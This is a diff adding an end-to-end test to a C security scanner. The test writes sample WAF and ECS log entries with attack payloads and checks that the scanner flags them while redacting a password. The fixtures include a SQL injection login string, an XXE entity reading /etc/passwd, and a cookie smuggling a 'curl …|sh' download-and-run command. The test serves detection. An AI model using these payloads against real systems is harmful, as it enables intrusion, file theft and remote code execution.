@@ -440,3 +440,45 @@ Test(e2e, structural_readers_without_signatures)
     cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-script\""), "%s", r.out);
     cr_assert_null(strstr(r.out, "\"line\":5"), "the everyday request alarmed: %s", r.out);
 }
+
+/* A WAF's audit log and an ECS log keep the body and the Cookie header: the real binary
+ * reads a JSON body's members, an XML body's text and the cookies, and withholds a
+ * password from what it shows. */
+Test(e2e, request_bodies_and_cookies_in_json_logs)
+{
+    FILE *f = fopen(path_of("waf.json"), "w");
+    cr_assert_not_null(f);
+    fputs(
+        "{\"transaction\":{\"client_ip\":\"203.0.113.9\",\"time_stamp\":\"Sat Nov 21 10:00:01 "
+        "2026\","
+        "\"request\":{\"method\":\"POST\",\"uri\":\"/api/login\",\"headers\":{\"Content-Type\":"
+        "\"application/json\"},\"body\":\"{\\\"user\\\":\\\"admin' or '1'='1\\\",\\\"password\\\":"
+        "\\\"hunter2\\\"}\"},\"response\":{\"http_code\":200}}}\n",
+        f);
+    fputs(
+        "{\"@timestamp\":\"2026-11-21T10:00:02Z\",\"source\":{\"ip\":\"203.0.113.9\"},\"url\":"
+        "{\"original\":\"/ws\"},\"http\":{\"request\":{\"method\":\"POST\",\"body\":{\"content\":"
+        "\"<?xml version=\\\"1.0\\\"?><!DOCTYPE r [<!ENTITY x SYSTEM \\\"file:///etc/passwd\\\">]>"
+        "<r>&x;</r>\"}}}}\n",
+        f);
+    fputs("{\"@timestamp\":\"2026-11-21T10:00:03Z\",\"source\":{\"ip\":\"203.0.113.9\"},\"url\":"
+          "{\"original\":\"/\"},\"http\":{\"request\":{\"method\":\"GET\",\"headers\":{\"cookie\":"
+          "\"lang=ja; theme=;curl http://203.0.113.9/x|sh\"}}}}\n",
+          f);
+    fputs(
+        "{\"@timestamp\":\"2026-11-21T10:00:04Z\",\"source\":{\"ip\":\"198.51.100.7\"},\"url\":"
+        "{\"original\":\"/comments\"},\"http\":{\"request\":{\"method\":\"POST\",\"body\":{"
+        "\"content\":\"author=Zo%C3%AB&comment=Great+post%2C+thanks%21\"},\"headers\":{\"cookie\":"
+        "\"_ga=GA1.2.1.1700000000; PHPSESSID=abcdef0123456789abcdef0123\"}}}}\n",
+        f);
+    fclose(f);
+    result r;
+    run(&r, "scan --output json --no-rules waf.json");
+    cr_assert_eq(r.status, 1, "%s", r.err);
+    cr_assert_not_null(strstr(r.out, "\"line\":1,\"field\":\"body\""), "%s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"family\":\"sqli\""), "%s", r.out);
+    cr_assert_null(strstr(r.out, "hunter2"), "a password in an alert: %s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-xxe\""), "%s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"line\":3,\"field\":\"cookie\""), "%s", r.out);
+    cr_assert_null(strstr(r.out, "\"line\":4"), "the everyday request alarmed: %s", r.out);
+}
